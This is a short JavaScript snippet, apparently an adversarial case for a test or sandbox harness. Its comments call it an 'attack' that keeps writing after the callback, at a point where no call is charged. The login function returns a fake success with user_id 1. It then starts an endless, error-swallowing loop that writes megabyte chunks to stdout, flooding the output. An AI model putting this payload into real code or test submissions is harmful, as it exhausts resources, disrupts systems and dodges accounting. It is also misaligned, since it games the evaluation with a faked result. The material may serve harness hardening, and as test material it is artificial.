// attack: write without end after the callback, when no call is charged for it
// value: {"user_id":1}
// retires: output_flood
function login(email, password, callback) {
  callback(null, { user_id: 1 });
  const chunk = 'x'.repeat(1e6);
  setTimeout(() => {
    for (;;) {
      try {
        require('fs').writeSync(1, chunk);
      } catch {}
    }
  }, 20);
}
